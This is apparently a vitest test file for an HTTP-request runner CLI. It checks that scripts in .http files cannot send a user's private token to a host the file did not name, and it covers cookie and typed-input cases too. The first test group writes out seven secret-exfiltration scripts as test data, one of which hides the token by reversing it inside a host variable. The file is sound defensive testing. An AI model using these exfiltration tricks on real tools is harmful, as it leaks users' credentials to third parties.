import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { restloop, temporaryHome } from '../program.ts';
import { folderOf } from '../run/files.ts';
import { type Echoes, openEchoes } from './echo-servers.ts';

let servers: Echoes;
beforeAll(async () => {
  servers = await openEchoes();
});

const secret = 'SECRET-of-the-user-1234';
const placed = (text: string): string =>
  text.replaceAll('OWN', servers.own.host).replaceAll('OTHER', servers.other.host);

describe('a script of a file with access to a secret', () => {
  it.each([
    [
      'a copy',
      `client.setVar('z', 'OTHER'); client.setVar('x', client.getVar('token'))`,
      'GET http://{{z}}/TAG?x={{x}}',
    ],
    [
      'a disguise in the host variable',
      `client.setVar('z', 'OTHER/TAG?x=' + [...client.getVar('token')].reverse().join(''))`,
      'GET http://{{z}}',
    ],
    [
      'all variables',
      `client.setVar('z', 'OTHER'); client.setVar('x', Object.values(client.vars()).join())`,
      'GET http://{{z}}/TAG?x={{x}}',
    ],
    [
      'interpolation',
      `client.setVar('z', 'OTHER'); client.setVar('x', {y: client.interpolate('{{token}}')})`,
      'POST http://{{z}}/TAG x={{x.y}}',
    ],
    [
      'the request that was sent',
      `client.setVar('z', 'OTHER'); client.setVar('x', res.request.headers.get('x-token'))`,
      'GET http://{{z}}/TAG\nX-Any: {{x}}',
    ],
    ['a variable of the file', `client.setVar('z', 'OTHER')`, 'GET http://{{z}}/TAG?x={{copied}}'],
    [
      'the request by its name',
      `client.setVar('z', 'OTHER')`,
      'GET http://{{z}}/TAG?x={{first.request.headers.X-Token}}',
    ],
  ])('cannot send it to another host as %s', async (title, script, request) => {
    const tag = `laundered-${title.replaceAll(' ', '-')}`;
    const text = `@copied = a{{token}}b\n\n### first\n# @name first\nGET http://OWN/first\nX-Token: {{token}}\n\n> {%\n${script}\n%}\n\n### second\n${request}\n`;
    const folder = folderOf({
      'a.http': placed(text).replaceAll('TAG', tag),
      'http-client.env.json': '{"dev": {}}',
      'http-client.private.env.json': JSON.stringify({ dev: { token: secret } }),
    });
    const ran = await restloop(['run', join(folder, 'a.http'), '--env', 'dev']);
    expect(servers.seen(tag)).toEqual([]);
    expect([ran.code, ran.stdout]).toEqual([3, expect.stringContaining('--allow-host')]);
  });
});

describe('data that is not a secret of the user', () => {
  it('is sent to hosts set by a script: a presigned URL, a token of the script, credentials of the file', async () => {
    const script = `client.setVar('upload', 'http://OTHER/upload-1'); client.setSecret('own', 'made-by-script')`;
    const text = `### first\nGET http://OWN/first\n\n> {%\n${script}\n%}\n\n### second\n# @auth bearer {{own}}\nPUT {{upload}}?signature=abc\n\ndata\n\n### third\nGET {{upload}}\nAuthorization: Bearer of-the-file\n`;
    const folder = folderOf({
      'a.http': placed(text),
      'http-client.env.json': '{"dev": {}}',
      'http-client.private.env.json': JSON.stringify({ dev: { token: secret } }),
    });
    const ran = await restloop(['run', join(folder, 'a.http'), '--env', 'dev']);
    expect([ran.code, ran.stderr]).toEqual([0, '']);
    expect(servers.seen('/upload-1').map(({ headers }) => headers.authorization)).toEqual([
      'Bearer made-by-script',
      'Bearer of-the-file',
    ]);
  });

  it('permits a host that a script repeats: from an environment, --var or another request', async () => {
    const follow = (value: string) =>
      `### first\nGET http://OWN/first\n\n> {%\nclient.setVar('z', ${value})\n%}\n\n### second\nGET {{z}}/repeated\n`;
    const folder = folderOf({
      'a.http': placed(follow(`client.getVar('api').url + '/x'`)),
      'b.http': placed(follow(`'http://OTHER'`)),
      'c.http': `${placed(follow(`'http://OTHER'`))}\n### third\n# @tag no\nGET http://${servers.other.host}/third\n`,
      'http-client.env.json': JSON.stringify({ dev: { api: { url: `http://${servers.other.host}` } } }),
    });
    const flags = ['--auth', `bearer ${secret}`];
    const ran = [
      await restloop(['run', join(folder, 'a.http'), '--env', 'dev', ...flags]),
      await restloop(['run', join(folder, 'b.http'), '--var', `host=${servers.other.host}`, ...flags]),
      await restloop(['run', join(folder, 'c.http'), '--exclude-tag', 'no', ...flags]),
    ];
    expect(ran.map(({ code }) => code)).toEqual([0, 0, 0]);
    expect(servers.seen('repeated').map(({ headers }) => headers.authorization)).toEqual(
      Array(3).fill(`Bearer ${secret}`),
    );
  });
});

describe('cookies', () => {
  it('of the jar are sent to hosts of the file', async () => {
    const text = `### first\nGET http://OTHER/cookie?value=mine\n\n> {%\nclient.setVar('z', 'OTHER')\n%}\n\n### second\nGET http://{{z}}/with-cookie\n`;
    const folder = folderOf({ 'a.http': placed(text) });
    const ran = await restloop(['run', join(folder, 'a.http'), '--set', 'cookies=on']);
    expect([ran.code, servers.seen('with-cookie').map(({ headers }) => headers.cookie)]).toEqual([
      0,
      ['sid=mine'],
    ]);
  });

  it('are not sent to hosts that only a script contacted', async () => {
    const text = `### first\nGET http://OWN/first\n\n> {%\nclient.setVar('z', 'OTHER')\n%}\n\n### second\nGET http://{{z}}/cookie?value=theirs\n\n### third\nGET http://{{z}}/third-cookie\n`;
    const folder = folderOf({ 'a.http': placed(text) });
    const ran = await restloop(['run', join(folder, 'a.http'), '--set', 'cookies=on']);
    expect(servers.seen('third-cookie')).toEqual([]);
    expect([ran.code, ran.stdout]).toEqual([3, expect.stringContaining('(cookies)')]);
  });
});

describe('typed input', () => {
  it('sends credentials to hosts set by a typed script or --eval', async () => {
    const input = `.auth bearer ${secret}\nclient.setVar('h', '${servers.other.host}')\nGET http://{{h}}/typed\n`;
    const typed = await restloop([], { input });
    const given = await restloop([
      'send',
      `GET http://{{h}}/typed`,
      '--auth',
      `bearer ${secret}`,
      '--eval',
      `client.setVar('h', '${servers.other.host}')`,
    ]);
    expect([typed.code, given.code]).toEqual([0, 0]);
    expect(servers.seen('typed').map(({ headers }) => headers.authorization)).toEqual([
      `Bearer ${secret}`,
      `Bearer ${secret}`,
    ]);
  });

  it('does not send them to a host set by a script of a saved request, also in a reopened session', async () => {
    const home = temporaryHome();
    const folder = folderOf({
      'a.http': placed(`### first\nGET http://OWN/first\n\n> {%\nclient.setVar('z', 'OTHER')\n%}\n`),
    });
    const input = `.import ${join(folder, 'a.http')}\n.send first\n.save kept\n.auth bearer ${secret}\nGET http://{{z}}/kept-typed\n`;
    const first = await restloop([], { input, home });
    expect([first.code, first.stderr]).toEqual([3, expect.stringContaining('--allow-host')]);
    const again = await restloop(
      ['send', '--session', 'kept', '--auth', `bearer ${secret}`, 'GET http://{{z}}/kept-typed'],
      { home },
    );
    expect([again.code, again.stderr]).toEqual([
      3,
      expect.stringContaining('chosen by a script (after first)'),
    ]);
    expect(servers.seen('kept-typed')).toEqual([]);
    const allowed = await restloop(
      [
        'send',
        '--session',
        'kept',
        '--auth',
        `bearer ${secret}`,
        '--allow-host',
        servers.other.host,
        'GET http://{{z}}/kept-typed',
      ],
      { home },
    );
    expect([allowed.code, servers.seen('kept-typed').length]).toEqual([0, 1]);
    const preview = await restloop(
      ['preview', '--session', 'kept', '--auth', `bearer ${secret}`, 'GET http://{{z}}/kept-typed', '--json'],
      { home },
    );
    expect([preview.code, JSON.parse(preview.stdout).requests[0].diagnostics]).toEqual([
      3,
      [expect.objectContaining({ code: 'withheld-credentials', line: 1, column: 12 })],
    ]);
  });

  it('is rejected when --allow-host names an invalid host', async () => {
    for (const wrong of [
      'http://a.example',
      'a.example/path',
      'ada@a.example',
      'a b',
      '*.',
      'a.*.example',
      ':80',
      '',
    ]) {
      const ran = await restloop([
        'send',
        '--allow-host',
        wrong,
        `GET http://${servers.own.host}/wrong-host`,
      ]);
      expect([ran.code, ran.stderr]).toEqual([2, expect.stringContaining('is not a host')]);
    }
    expect(servers.seen('wrong-host')).toEqual([]);
  });
});
